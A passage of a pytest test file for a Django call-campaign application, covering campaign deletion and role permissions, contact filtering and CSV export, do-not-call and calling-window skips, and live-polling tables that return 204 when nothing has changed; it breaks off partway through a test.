def test_the_upload_help_names_its_columns_without_markdown_backticks(client_for, operator_user):
    page = client_for(operator_user).get(f"/campaigns/{CampaignFactory().pk}/").content.decode()

    assert "`" not in page.split('id="id_file_helptext"')[1].split("</p>")[0]
    assert "with a &quot;number&quot; column, optionally &quot;timezone&quot;" in page


def test_deleting_the_last_campaign_goes_back_to_the_list_and_its_empty_state(
    client_for, operator_user, application
):
    campaign = CampaignFactory(application=application, name="Renewals",
                               status=CampaignStatus.STOPPED)
    AttemptFactory(contact=ContactFactory(campaign=campaign),
                   call=CallFactory(account=application.account))

    response = client_for(operator_user).post(f"/campaigns/{campaign.pk}/delete", follow=True)

    assert response.redirect_chain == [("/campaigns/", 302)]
    page = response.content.decode()
    assert ("Campaign “Renewals” deleted with its 1 contact; its calls stay in the call log."
            in page)
    assert "No campaigns yet" in page and "New campaign" in page
    assert Call.objects.count() == 1


def test_a_running_campaign_is_not_deleted_and_the_page_says_why(
    client_for, operator_user, application
):
    campaign = CampaignFactory(application=application, status=CampaignStatus.RUNNING)

    response = client_for(operator_user).post(f"/campaigns/{campaign.pk}/delete", follow=True)

    assert response.redirect_chain == [(f"/campaigns/{campaign.pk}/", 302)]
    assert "A running campaign cannot be deleted; stop it first." in response.content.decode()
    assert Campaign.objects.filter(pk=campaign.pk).exists()


def test_viewers_cannot_copy_or_delete_a_campaign_operators_can(
    client_for, viewer_user, operator_user, application
):
    campaign = CampaignFactory(application=application)
    viewer = client_for(viewer_user)

    assert viewer.post(f"/campaigns/{campaign.pk}/copy").status_code == 403
    assert viewer.post(f"/campaigns/{campaign.pk}/delete").status_code == 403
    assert list(Campaign.objects.all()) == [campaign]
    operator = client_for(operator_user)
    assert operator.post(f"/campaigns/{campaign.pk}/copy").status_code == 302
    assert operator.post(f"/campaigns/{campaign.pk}/delete")["Location"] == "/campaigns/"
    assert list(Campaign.objects.values_list("name", flat=True)) == [f"Copy of {campaign.name}"]


# Finding contacts: the table's filters (ContactFilter) -----------------------------------------

@pytest.fixture
def busy_and_others():
    """A running campaign of 53 contacts: 51 busy (a page and one more), 2 answered."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    busy = ContactFactory.create_batch(51, campaign=campaign, state="retry", outcome="busy")
    ContactFactory(campaign=campaign, e164="+12125551234", state="done", outcome="answered")
    ContactFactory(campaign=campaign, e164="+12125559876", state="done", outcome="answered")
    return campaign, busy


def test_the_contacts_table_finds_who_was_busy_and_its_poll_pager_and_csv_keep_the_filter(
    client_for, viewer_user, busy_and_others
):
    campaign, busy = busy_and_others
    page = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/",
                                       {"outcome": "busy", "page": "2"}).content.decode()
    table = page[page.index('<div id="contacts"'):]

    assert "51 results" in page
    assert 'aria-label="Filter the contacts"' in page
    assert "Outcome: Busy" in page  # the chip
    assert (f'hx-get="/campaigns/{campaign.pk}/contact-table?outcome=busy&amp;page=2"'
            in table)
    assert "Page 2 of 2" in table and table.count('data-field="outcome-') == 1
    assert "?outcome=busy&amp;page=1" in table  # the pager keeps the filter
    assert f'href="/campaigns/{campaign.pk}/results.csv?outcome=busy"' in page
    # The board above still counts the whole campaign.
    assert '<span data-field="contacts">53 contacts</span>' in page


def test_the_live_table_answers_with_the_filtered_rows(client_for, viewer_user, busy_and_others):
    campaign, _ = busy_and_others
    table = client_for(viewer_user).get(
        f"/campaigns/{campaign.pk}/contact-table", {"number": "+1 212 555 1234"}
    ).content.decode()

    assert table.strip().startswith('<div id="contacts"')
    assert "+1 212-555-1234" in table and table.count('data-field="state-') == 1
    assert (f'hx-get="/campaigns/{campaign.pk}/contact-table?number=%2B1+212+555+1234"'
            in table)


def contact_counts(queries) -> list[str]:
    return [q["sql"] for q in queries
            if 'COUNT(*) AS "__count" FROM "campaigns_contact"' in q["sql"]]


@pytest.mark.parametrize("params", [{}, {"number": "", "state": "", "outcome": "",
                                         "skip_reason": "", "page": "2"}])
def test_the_unfiltered_poll_counts_nothing_and_a_filtered_one_counts_what_it_selects(
    client_for, viewer_user, busy_and_others, params
):
    campaign, _ = busy_and_others
    client = client_for(viewer_user)
    client.get(f"/campaigns/{campaign.pk}/board")  # the board's reading, shared for a second
    url = f"/campaigns/{campaign.pk}/contact-table"

    with CaptureQueriesContext(connection) as unfiltered:
        assert client.get(url, params).status_code == 200
    with CaptureQueriesContext(connection) as filtered:
        table = client.get(url, {"state": "done"}).content.decode()

    assert contact_counts(unfiltered) == []
    assert len(contact_counts(filtered)) == 1 and table.count('data-field="state-') == 2


def test_a_filter_matching_no_contact_says_so_with_a_way_back(client_for, viewer_user,
                                                               busy_and_others):
    campaign, _ = busy_and_others
    client = client_for(viewer_user)
    for url in (f"/campaigns/{campaign.pk}/", f"/campaigns/{campaign.pk}/contact-table"):
        text = client.get(url, {"outcome": "machine"}).content.decode()

        assert "No contact matches these filters." in text
        assert f'<a href="/campaigns/{campaign.pk}/">Show all contacts</a>' in text
        assert "No contacts yet" not in text


def test_a_bad_filter_value_is_a_form_error_with_no_rows_and_a_400_on_the_csv(
    client_for, viewer_user, busy_and_others
):
    campaign, _ = busy_and_others
    client = client_for(viewer_user)

    page = client.get(f"/campaigns/{campaign.pk}/", {"state": "busy"})
    csv_file = client.get(f"/campaigns/{campaign.pk}/results.csv", {"state": "busy"})

    text = page.content.decode()
    assert page.status_code == 200
    assert "Select a valid choice. busy is not one of the available choices." in text
    assert "<details class=\"filterbox\" open>" in text
    assert "No contacts shown: correct the filter above." in text
    assert 'data-field="state-' not in text
    assert csv_file.status_code == 400
    assert csv_file.content.decode().startswith("The filters are not valid: state: ")


def test_the_results_csv_has_the_filtered_contacts_only(client_for, viewer_user,
                                                        busy_and_others):
    campaign, _ = busy_and_others
    response = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/results.csv",
                                           {"outcome": "answered", "number": "+1 212"})
    rows = list(csv_module.DictReader(io.StringIO(
        b"".join(response.streaming_content).decode())))

    assert [(row["number"], row["disposition"]) for row in rows] == [
        ("+12125551234", "answered"), ("+12125559876", "answered")]


@pytest.mark.parametrize("role", ["viewer", "operator", "admin"])
def test_every_role_filters_the_contacts_and_nobody_else(client_for, personas, role):
    campaign = CampaignFactory()
    ContactFactory(campaign=campaign, state="done", outcome="busy")
    client = client_for(personas[role])
    params = {"outcome": "busy"}

    assert "1 result" in client.get(f"/campaigns/{campaign.pk}/", params).content.decode()
    assert client.get(f"/campaigns/{campaign.pk}/results.csv", params).status_code == 200
    assert client_for(personas["outsider"]).get(f"/campaigns/{campaign.pk}/",
                                                params).status_code == 403
    anonymous = client_for(None).get(f"/campaigns/{campaign.pk}/results.csv", params)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/login/")


@pytest.mark.parametrize("status", [CampaignStatus.STOPPED, CampaignStatus.FINISHED])
def test_an_ended_campaign_offers_no_upload_and_refuses_one_sent_anyway(
    client_for, operator_user, status
):
    campaign = CampaignFactory(status=status)
    client = client_for(operator_user)

    page = client.get(f"/campaigns/{campaign.pk}/").content.decode()
    response = client.post(
        f"/campaigns/{campaign.pk}/contacts",
        {"file": SimpleUploadedFile("list.csv", b"number\n+12125551234\n", "text/csv")},
        follow=True,
    )

    assert "Upload contacts" not in page
    assert "takes no more contacts. To call more people with the same settings, copy it" in page
    assert f"This campaign is {status.label.lower()}: it calls no one again" in [
        str(shown) for shown in response.context["messages"]][0]
    assert not campaign.contacts.exists() and not campaign.imports.exists()


# The campaigns list: progress, status pills, rehearsals, filters, live table ---------------------

def test_the_list_shows_each_campaigns_progress_as_its_board_words_it(client_for, viewer_user):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING, name="Spring survey")
    contacts = [ContactFactory(campaign=campaign, state=state)
                for state in ("done", "done", "retry", "skipped")]
    AttemptFactory(contact=contacts[2], status="placed")
    draft = CampaignFactory(name="Autumn survey")
    client = client_for(viewer_user)

    text = client.get("/campaigns/").content.decode()
    board = client.get(f"/campaigns/{campaign.pk}/board").content.decode()

    assert '<progress max="100" value="67"' in text
    assert f'<span data-field="finished-{campaign.pk}">67% finished</span>' in text
    assert "67% finished" in board and "of the 3 contacts to call; 1 skipped" in board
    assert (f'<span class="muted" data-field="finished-of-{campaign.pk}">of the 3 contacts to '
            "call; 1 skipped</span>") in text
    assert f'<span data-field="in-progress-{campaign.pk}">1 call in progress</span>' in text
    # A draft has nothing in progress to say.
    assert "of the 0 contacts to call</span>" in text
    assert f'data-field="in-progress-{draft.pk}"' not in text


def test_the_board_and_list_count_do_not_call_contacts_apart_from_the_start_as_the_preview(
    client_for, viewer_user
):
    """A contact on a do-not-call list waited as "to call" until the scheduler reached it, so
    the board's "of N contacts to call" started above the preview's count."""
    campaign = CampaignFactory(name="Spring survey")
    for e164 in ("+31201234567", "+31201234568", "+31201234569"):
        ContactFactory(campaign=campaign, e164=e164, raw_number=e164)
    ContactFactory(campaign=campaign, state="skipped", skip_reason="invalid", e164="")
    SuppressionListFactory().numbers.create(e164="+31201234568")
    client = client_for(viewer_user)

    board = client.get(f"/campaigns/{campaign.pk}/board").content.decode()
    listed = client.get("/campaigns/").content.decode()
    preview = client.get(f"/campaigns/{campaign.pk}/preview").content.decode()

    assert "<strong>2</strong> contacts will be called" in preview
    assert ("of the 2 contacts to call; 1 will be skipped: on a do-not-call list; 1 skipped, "
            "never called, and not counted") in board
    assert ("of the 2 contacts to call; 1 will be skipped: on a do-not-call list; 1 skipped"
            "</span>") in listed


def test_the_board_and_list_count_contacts_outside_every_window_apart_as_the_preview(
    client_for, viewer_user
):
    """Contacts whose windows leave no time before the end were "to call" on the board and
    the list, and skipped (no window) on the preview: "of the 3 contacts to call" beside "1
    contact will be called"."""
    with time_machine.travel(datetime(2025, 6, 7, 12, tzinfo=UTC), tick=False):
        # Amsterdam's window is open now; Tokyo's next opens at midnight UTC, after the end.
        campaign = CampaignFactory(ends_at=datetime(2025, 6, 7, 16, tzinfo=UTC))
        for e164, zone in (("+31201234567", "Europe/Amsterdam"), ("+31201234568", "Asia/Tokyo"),
                           ("+31201234569", "Asia/Tokyo")):
            ContactFactory(campaign=campaign, e164=e164, raw_number=e164, timezones=[zone])
        SuppressionListFactory().numbers.create(e164="+31201234569")  # do-not-call first
        client = client_for(viewer_user)

        board = client.get(f"/campaigns/{campaign.pk}/board").content.decode()
        listed = client.get("/campaigns/").content.decode()
        preview = client.get(f"/campaigns/{campaign.pk}/preview").content.decode()

    assert "<strong>1</strong> contacts will be called" in preview
    assert "<td>Outside every window before the end</td><td>1</td>" in preview
    assert ("of the 1 contact to call; 1 will be skipped: on a do-not-call list; 1 will be "
            "skipped: outside every window before the end</span>") in board
    assert ("of the 1 contact to call; 1 will be skipped: on a do-not-call list; 1 will be "
            "skipped: outside every window before the end</span>") in listed


def test_the_contacts_table_says_a_waiting_contact_on_a_do_not_call_list_will_be_skipped(
    client_for, viewer_user
):
    campaign = CampaignFactory()
    listed, free = (ContactFactory(campaign=campaign, e164=e164, raw_number=e164)
                    for e164 in ("+31201234568", "+31201234569"))
    SuppressionListFactory().numbers.create(e164="+31201234568")
    client = client_for(viewer_user)

    page = client.get(f"/campaigns/{campaign.pk}/").content.decode()
    table = re.sub(r"\s+", " ", client.get(f"/campaigns/{campaign.pk}/contact-table")
                   .content.decode())

    assert (f'data-field="state-{listed.pk}">Will be skipped: on a do-not-call list</td>'
            in table)
    assert f'data-field="state-{free.pk}">Waiting for its first call</td>' in table
    # Removed from the list before its turn, it is called: the table's next poll says so.
    SuppressedNumber.objects.all().delete()
    poll = client.get(f"/campaigns/{campaign.pk}/contact-table",
                      {"page_state": part_states(page)["contacts"]})
    assert poll.status_code == 200
    assert f'data-field="state-{listed.pk}">Waiting for its first call' in poll.content.decode()


def test_the_contacts_table_says_a_waiting_contact_outside_every_window_will_be_skipped(
    client_for, viewer_user
):
    with time_machine.travel(datetime(2025, 6, 7, 12, tzinfo=UTC), tick=False):
        # Amsterdam's window is open now; Tokyo's next opens at midnight UTC, after the end.
        campaign = CampaignFactory(ends_at=datetime(2025, 6, 7, 16, tzinfo=UTC))
        here, far, far_listed = (ContactFactory(campaign=campaign, timezones=[zone])
                                 for zone in ("Europe/Amsterdam", "Asia/Tokyo", "Asia/Tokyo"))
        SuppressionListFactory().numbers.create(e164=far_listed.e164)
        client = client_for(viewer_user)

        page = client.get(f"/campaigns/{campaign.pk}/").content.decode()
        table = client.get(f"/campaigns/{campaign.pk}/contact-table").content.decode()

        for shown in (page, table):
            assert (f'data-field="state-{far.pk}">Will be skipped: outside every window '
                    "before the end</td>") in shown
            assert f'data-field="state-{here.pk}">Waiting for its first call</td>' in shown
            # Counted on the board as on a do-not-call list first, and so said in its row.
            assert (f'data-field="state-{far_listed.pk}">Will be skipped: on a do-not-call '
                    "list</td>") in shown
        # Running a day longer, Tokyo's window opens before the end: the next poll says so.
        Campaign.objects.filter(pk=campaign.pk).update(ends_at=datetime(2025, 6, 8, 16, tzinfo=UTC))
        poll = client.get(f"/campaigns/{campaign.pk}/contact-table",
                          {"page_state": part_states(page)["contacts"]})
    assert poll.status_code == 200
    assert f'data-field="state-{far.pk}">Waiting for its first call' in poll.content.decode()


def list_reads(client, url: str) -> int:
    cache.clear()  # not the board's nor the list's shared reading: the list's own queries
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_the_list_reads_progress_in_the_same_queries_for_one_campaign_or_a_page(
    client_for, viewer_user
):
    client = client_for(viewer_user)

    campaigns_calling(1, calls=3)
    list_reads(client, "/campaigns/")  # the first requests fill the process's caches
    one = [list_reads(client, url) for url in ("/campaigns/", "/campaigns/table")]
    campaigns_calling(24, calls=3)  # 34 campaigns on the page, rehearsed ones and their sources
    many = [list_reads(client, url) for url in ("/campaigns/", "/campaigns/table")]

    assert one == many


def test_the_list_takes_a_campaigns_progress_from_its_boards_reading(client_for, viewer_user):
    """A campaign whose page is open has been read within the second: not counted again."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    ContactFactory(campaign=campaign, state="done")
    client = client_for(viewer_user)
    client.get(f"/campaigns/{campaign.pk}/board")

    with CaptureQueriesContext(connection) as queries:
        text = client.get("/campaigns/table").content.decode()

    assert "100% finished" in text
    assert not [q for q in queries if '"campaigns_contact"' in q["sql"]]


def test_a_paused_campaigns_last_call_and_a_stop_show_in_the_list_and_api_at_once(
    client_for, api_for, operator_user, django_capture_on_commit_callbacks
):
    """A campaign not running keeps its list reading PROGRESS_SETTLED_SECONDS: what changes it
    (its status, a call of it ending) forgets it, or the list would show the change 10 s late."""
    paused = CampaignFactory(status=CampaignStatus.RUNNING, name="Spring survey")
    ContactFactory(campaign=paused, state="done", outcome="answered")
    calling = ContactFactory(campaign=paused, state="dialing", attempts_made=1)
    call = CallFactory(status="answered")
    AttemptFactory(contact=calling, call=call, status="placed")
    stopped = CampaignFactory(status=CampaignStatus.RUNNING, name="Autumn survey")
    ContactFactory(campaign=stopped, state="done", outcome="answered")
    ContactFactory(campaign=stopped, state="pending")
    client, api = client_for(operator_user), api_for(operator_user)

    def listed() -> tuple[str, dict[int, dict]]:
        rows = api.get("/api/v1/campaigns").json()["results"]
        return (client.get("/campaigns/").content.decode(),
                {row["id"]: row["progress"] for row in rows})

    page, _ = listed()
    assert f'<span data-field="finished-{paused.pk}">50% finished</span>' in page
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/campaigns/{paused.pk}/pause")
        client.post(f"/campaigns/{stopped.pk}/stop")
    page, progress = listed()  # read now, then kept: neither is running
    assert f'<span data-field="in-progress-{paused.pk}">1 call in progress</span>' in page
    assert "of the 1 contact to call; 1 skipped" in page and progress[stopped.pk]["skipped"] == 1

    Call.objects.filter(pk=call.pk).update(status="completed")
    with django_capture_on_commit_callbacks(execute=True):
        scheduler.attempts_settle(now=timezone.now())
    page, progress = listed()

    assert f'<span data-field="finished-{paused.pk}">100% finished</span>' in page
    assert f'data-field="in-progress-{paused.pk}"' not in page
    assert progress[paused.pk]["finished_percent"] == 100
    assert progress[paused.pk]["in_progress"] == 0


def test_a_call_settled_as_its_campaign_is_paused_shows_in_the_list_at_once(
    client_for, operator_user, monkeypatch, django_capture_on_commit_callbacks
):
    """The settle read the campaign as running, so it forgot nothing when it committed; the
    pause, committed in between, had forgotten the readings already, and the list read just
    after it kept the paused campaign's old figures PROGRESS_SETTLED_SECONDS (10 s)."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    calling = ContactFactory(campaign=campaign, state="dialing", attempts_made=1)
    call = CallFactory(status="completed")
    AttemptFactory(contact=calling, call=call, status="placed")
    client = client_for(operator_user)
    times_ended = scheduler._times_ended

    def pause_meanwhile(contact_ids):
        # The pause commits while the settle's batch is read but not yet written.
        Campaign.objects.filter(pk=campaign.pk).update(status=CampaignStatus.PAUSED)
        cache.clear()  # what its commit forgets
        page = client.get("/campaigns/").content.decode()
        assert f'<span data-field="in-progress-{campaign.pk}">1 call in progress</span>' in page
        return times_ended(contact_ids)

    monkeypatch.setattr(scheduler, "_times_ended", pause_meanwhile)
    with django_capture_on_commit_callbacks(execute=True):
        scheduler.attempts_settle(now=timezone.now())
    page = client.get("/campaigns/").content.decode()

    assert f'<span data-field="finished-{campaign.pk}">100% finished</span>' in page
    assert f'data-field="in-progress-{campaign.pk}"' not in page


def test_the_list_shows_statuses_as_pills_and_links_a_rehearsal_to_its_campaign(
    client_for, viewer_user
):
    pills = {status: CampaignFactory(status=status) for status in CampaignStatus}
    source = pills[CampaignStatus.FINISHED]
    rehearsal = CampaignFactory(rehearsal_of=source, name=f"Rehearsal: {source.name}")

    text = client_for(viewer_user).get("/campaigns/").content.decode()

    for status, colour in [("draft", "muted"), ("running", "info"), ("paused", "warn"),
                           ("stopped", "bad"), ("finished", "ok")]:
        campaign = pills[status]
        assert (f'<span class="pill {colour}" data-field="status-{campaign.pk}">'
                f"{campaign.get_status_display()}</span>") in text
    assert (f'<span class="muted small" data-field="rehearsal-{rehearsal.pk}">Rehearsal of '
            f'<a href="/campaigns/{source.pk}/">{source.name}</a></span>') in text
    assert f'data-field="rehearsal-{source.pk}"' not in text


@pytest.fixture
def surveys():
    """Two running surveys (one rehearsed), a paused survey and a running poll."""
    spring = CampaignFactory(name="Spring survey", status=CampaignStatus.RUNNING)
    return {
        "spring": spring,
        "rehearsal": CampaignFactory(name="Rehearsal: Spring survey", rehearsal_of=spring,
                                     status=CampaignStatus.RUNNING),
        "autumn": CampaignFactory(name="Autumn survey", status=CampaignStatus.PAUSED),
        "poll": CampaignFactory(name="Election poll", status=CampaignStatus.RUNNING),
    }


def shown(text: str) -> list[str]:
    return re.findall(r'data-field="status-(\d+)"', text)


def test_the_list_filters_by_status_and_name_on_its_page_and_its_live_table(
    client_for, viewer_user, surveys
):
    client = client_for(viewer_user)
    params = {"status": "running", "q": "SURVEY"}
    expected = sorted(str(surveys[name].pk) for name in ("spring", "rehearsal"))

    page = client.get("/campaigns/", params).content.decode()
    table = client.get("/campaigns/table", params).content.decode()

    assert sorted(shown(page)) == expected and sorted(shown(table)) == expected
    assert "2 results" in page and 'aria-label="Filter the campaigns"' in page
    assert "Status: Running" in page and "Search: SURVEY" in page  # the chips
    # The form is above the polled region, which keeps the filters at each poll.
    assert page.index('aria-label="Filter the campaigns"') < page.index('<div id="campaigns"')
    assert table.strip().startswith('<div id="campaigns"') and "filterbox" not in table
    assert 'hx-get="/campaigns/table?q=SURVEY&amp;status=running"' in table


def test_a_filter_matching_no_campaign_or_a_bad_value_says_so(client_for, viewer_user, surveys):
    client = client_for(viewer_user)
    none = client.get("/campaigns/", {"q": "winter"}).content.decode()
    bad = client.get("/campaigns/", {"status": "busy"}).content.decode()

    assert "No campaign matches these filters." in none and "No campaigns yet" not in none
    assert '<a href="/campaigns/">Show all campaigns</a>' in none
    assert "Select a valid choice. busy is not one of the available choices." in bad
    assert "No campaigns shown: correct the filter above." in bad and shown(bad) == []


@pytest.mark.parametrize("role", ["viewer", "operator", "admin"])
def test_every_role_reads_and_filters_the_campaigns_and_nobody_else(client_for, personas, role,
                                                                   surveys):
    for url in ("/campaigns/", "/campaigns/table"):
        response = client_for(personas[role]).get(url, {"status": "paused"})
        assert response.status_code == 200
        assert shown(response.content.decode()) == [str(surveys["autumn"].pk)]
        assert client_for(personas["outsider"]).get(url).status_code == 403
    expired = client_for(None).get("/campaigns/table")
    assert expired.status_code == 204 and expired["HX-Redirect"] == "/login/"


# The list's live table: 204 while nothing it shows changed ---------------------------------------

def table_state(text: str) -> str:
    """The digest of what the table shows, which its poll sends back (`page_state`)."""
    return re.search(r"""hx-vals='\{"page_state": "([0-9a-f]{16})"\}'""", text).group(1)


def test_a_poll_of_an_unchanged_campaigns_table_is_a_204_in_as_few_queries_for_many_rows(
    client_for, viewer_user
):
    client = client_for(viewer_user)

    def unchanged_poll() -> int:
        state = table_state(client.get("/campaigns/").content.decode())
        cache.clear()  # a second later: the shared progress is read again, and is the same
        with CaptureQueriesContext(connection) as queries:
            response = client.get("/campaigns/table", {"page_state": state})
        assert response.status_code == 204 and response.content == b""
        return len(queries)

    campaigns_calling(1)
    one = unchanged_poll()
    campaigns_calling(24)  # 34 campaigns on the page

    # The session, its user and the policy; the page's count and rows; progress's three counts.
    assert one == unchanged_poll() == 8


def test_a_poll_gets_the_new_table_when_progress_calls_in_progress_a_status_or_rows_change(
    client_for, viewer_user
):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING, name="Spring survey")
    first, second = ContactFactory.create_batch(2, campaign=campaign, state="pending")
    client = client_for(viewer_user)
    state = table_state(client.get("/campaigns/").content.decode())
    changes = [
        (lambda: Contact.objects.filter(pk=first.pk).update(state="done"),
         f'<span data-field="finished-{campaign.pk}">50% finished</span>'),
        (lambda: AttemptFactory(contact=second, status="placed"),
         f'<span data-field="in-progress-{campaign.pk}">1 call in progress</span>'),
        (lambda: Campaign.objects.filter(pk=campaign.pk).update(status=CampaignStatus.PAUSED),
         f'data-field="status-{campaign.pk}">Paused</span>'),
        (lambda: CampaignFactory(name="Winter survey"), ">Winter survey</a>"),
    ]

    for change, shown_now in changes:
        change()
        cache.clear()  # a second later, when the shared progress is read again
        response = client.get("/campaigns/table", {"page_state": state})
        assert response.status_code == 200
        text = response.content.decode()
        assert shown_now in text
        assert table_state(text) != state
        state = table_state(text)
        assert client.get("/campaigns/table", {"page_state": state}).status_code == 204
    # The filter is part of what the table shows: the same rows asked with another filter
    # (here one that keeps them all) are sent again.
    assert client.get("/campaigns/table", {"page_state": state, "q": "survey"}).status_code == 200


# A campaign's board and contacts table: 204 while nothing they show changed ----------------------

def part_states(page: str) -> dict[str, str]:
    """The digest each live part of a campaign's page sends back (`page_state`), by its id."""
    return dict(re.findall(
        r"""<div id="(board|contacts)"[^>]*hx-vals='\{"page_state": "([0-9a-f]{16})"\}'""", page))


@pytest.fixture
def calling():
    """A running campaign as its page shows it: contacts done, retried (with a next retry),
    in a call and to call, an import under way; attempts with a pace, a link to a call."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    now = timezone.now()
    done = ContactFactory(campaign=campaign, e164="+31201234567", state="done",
                          outcome="answered", attempts_made=1)
    AttemptFactory(contact=done, call=CallFactory(), status="ended", outcome="answered",
                   created_at=now - timedelta(seconds=30))
    retry = ContactFactory(campaign=campaign, e164="+31201234568", state="retry", outcome="busy",
                           attempts_made=1, next_attempt_at=now + timedelta(minutes=10))
    AttemptFactory(contact=retry, status="ended", outcome="busy",
                   created_at=now - timedelta(seconds=20))
    ContactFactory.create_batch(2, campaign=campaign, state="pending")
    ContactImportFactory(campaign=campaign, status="running", total_rows=100, processed_rows=40)
    return campaign


def test_an_unchanged_board_or_contacts_table_is_a_204_after_a_few_queries(
    client_for, viewer_user, calling
):
    client = client_for(viewer_user)
    page = client.get(f"/campaigns/{calling.pk}/").content.decode()
    states = part_states(page)
    assert states.keys() == {"board", "contacts"}

    def poll(path: str, part: str) -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.get(f"/campaigns/{calling.pk}/{path}", {"page_state": states[part]})
        assert response.status_code == 204 and response.content == b""
        return len(queries)

    # The session, its user and the policy; the campaign; the imports under way. The board's
    # reading is shared for a second, and then read again the same (6 queries more).
    assert poll("board", "board") == 5
    # The session's three; the campaign; the page's rows and their attempts (the board's
    # reading has the count).
    assert poll("contact-table", "contacts") == 6
    cache.clear()  # a second later: the board's reading is read again, and is the same
    assert poll("board", "board") == 11


def test_the_board_is_sent_again_for_each_change_it_shows(client_for, viewer_user, calling):
    client = client_for(viewer_user)
    state = part_states(client.get(f"/campaigns/{calling.pk}/").content.decode())["board"]
    pending = list(calling.contacts.filter(state="pending"))
    upload = calling.imports.get()
    now = timezone.now()
    changes = [
        (lambda: AttemptFactory(contact=pending[0], status="placed", created_at=now),
         '<span data-field="in_progress">1 call in progress</span>'),
        (lambda: Contact.objects.filter(pk=pending[0].pk).update(state="done", outcome="busy"),
         "<td>Busy</td>"),
        (lambda: Contact.objects.filter(pk=pending[1].pk).update(
            state="retry", e164="+31201234599", next_attempt_at=now + timedelta(minutes=5)),
         "+31 20 123 4599 at"),
        (lambda: Contact.objects.filter(pk=pending[1].pk).update(
            next_attempt_at=now + timedelta(hours=5)),
         f"+31 20 123 4599 at {moment(now + timedelta(hours=5))}"),
        (lambda: Contact.objects.filter(pk=pending[1].pk).update(attempts_made=7),
         '<span data-field="attempts">9 attempts</span>'),
        (lambda: type(upload).objects.filter(pk=upload.pk).update(processed_rows=80),
         "80 of 100 rows"),
        (lambda: Campaign.objects.filter(pk=calling.pk).update(held_back=HeldBack.CAP),
         "Held back by its concurrency cap"),
        (lambda: Campaign.objects.filter(pk=calling.pk).update(calls_per_second=2),
         "of 2.00/s set"),
        (lambda: Contact.objects.filter(campaign=calling, state="retry").update(
            state="skipped"), "2 skipped, never called"),
        (lambda: Campaign.objects.filter(pk=calling.pk).update(status=CampaignStatus.PAUSED),
         '<strong data-field="status">Paused</strong>'),
    ]

    for change, shown_now in changes:
        change()
        cache.clear()  # a second later, when the board's shared reading is read again
        response = client.get(f"/campaigns/{calling.pk}/board", {"page_state": state})
        assert response.status_code == 200, shown_now
        text = response.content.decode()
        assert shown_now in text
        assert part_states(text)["board"] != state
        state = part_states(text)["board"]
        assert client.get(f"/campaigns/{calling.pk}/board",
                          {"page_state": state}).status_code == 204, shown_now


def test_an_unchanged_board_read_in_another_order_is_a_204_listing_outcomes_alike(
    client_for, viewer_user, calling, monkeypatch
):
    """The board's counts come from GROUP BY queries without ORDER BY, whose groups the
    database may give in any order (PostgreSQL's hash aggregate): the same figures read the
    other way round a second later are the same board, not a new one sent to every viewer."""
    client = client_for(viewer_user)
    page = client.get(f"/campaigns/{calling.pk}/").content.decode()
    rows = ValuesListIterable.__iter__
    monkeypatch.setattr(ValuesListIterable, "__iter__", lambda self: reversed(list(rows(self))))
    cache.clear()  # a second later: the board's reading is read again, its groups reversed

    response = client.get(f"/campaigns/{calling.pk}/board",
                          {"page_state": part_states(page)["board"]})
    board = client.get(f"/campaigns/{calling.pk}/board").content.decode()

    assert response.status_code == 204
    # Outcomes are listed in one order (Outcome's), whichever order they were counted in.
    for shown in (page, board):
        assert shown.index("<td>Answered</td>") < shown.index("<td>Busy</td>")


def test_the_board_is_sent_again_when_its_pace_achieved_changes(client_for, viewer_user, calling):
    client = client_for(viewer_user)
    board = client.get(f"/campaigns/{calling.pk}/board").content.decode()
    assert "pace 0.03/s achieved" in board  # two attempts in the last minute
    AttemptFactory(contact=calling.contacts.filter(state="pending").first(),
                   created_at=timezone.now() - timedelta(seconds=25))
    cache.clear()

    response = client.get(f"/campaigns/{calling.pk}/board",
                          {"page_state": part_states(board)["board"]})

    assert response.status_code == 200 and "pace 0.05/s achieved" in response.content.decode()


def test_the_pace_achieved_counts_from_the_resume_not_the_pause(client_for, operator_user):
    """Ten calls a second apart since a resume ten seconds ago: 1.00/s achieved, as set, not
    the minute's calls before the pause spread over the pause too."""
    campaign = CampaignFactory(status=CampaignStatus.PAUSED,
                               starts_at=timezone.now() - timedelta(hours=1))
    contacts = ContactFactory.create_batch(30, campaign=campaign, state="done")
    now = timezone.now()
    for second, contact in zip(range(50, 30, -1), contacts[:20], strict=True):
        AttemptFactory(contact=contact, created_at=now - timedelta(seconds=second))
    with time_machine.travel(now - timedelta(seconds=10), tick=False):
        campaigns.campaign_transition(actor=Actor(user=operator_user), campaign=campaign,
                                      action="resume")
    for second, contact in zip(range(10, 0, -1), contacts[20:], strict=True):
        AttemptFactory(contact=contact, created_at=now - timedelta(seconds=second))

    with time_machine.travel(now, tick=False):
        board = client_for(operator_user).get(f"/campaigns/{campaign.pk}/board")

    assert "pace 1.00/s achieved of 1.00/s set" in board.content.decode()


def test_the_contacts_table_is_sent_again_for_each_change_it_shows(
    client_for, viewer_user, calling
):
    client = client_for(viewer_user)
    state = part_states(client.get(f"/campaigns/{calling.pk}/").content.decode())["contacts"]
    pending = calling.contacts.filter(state="pending").first()
    url = f"/campaigns/{calling.pk}/contact-table"
    changes = [
        (lambda: AttemptFactory(contact=pending, number=1, status="placed"),
         '<td data-label="Attempts">#1 '),
        (lambda: pending.attempts.update(outcome="busy", call=CallFactory()),
         "</a> Busy</td>"),
        (lambda: Contact.objects.filter(pk=pending.pk).update(state="retry"),
         f'data-field="state-{pending.pk}">Waiting for a retry</td>'),
        (lambda: Contact.objects.filter(pk=pending.pk).update(outcome="busy"),
         f'data-field="outcome-{pending.pk}">Busy</td>'),
        (lambda: Contact.objects.filter(pk=pending.pk).update(problem="Moved abroad"),
         "Moved abroad"),
        (lambda: ContactFactory(campaign=calling, e164="+31209999999"), "+31 20 999 9999"),
    ]

    for change, shown_now in changes:
        change()
        cache.clear()  # a second later, when the board's count is read again
        response = client.get(url, {"page_state": state})
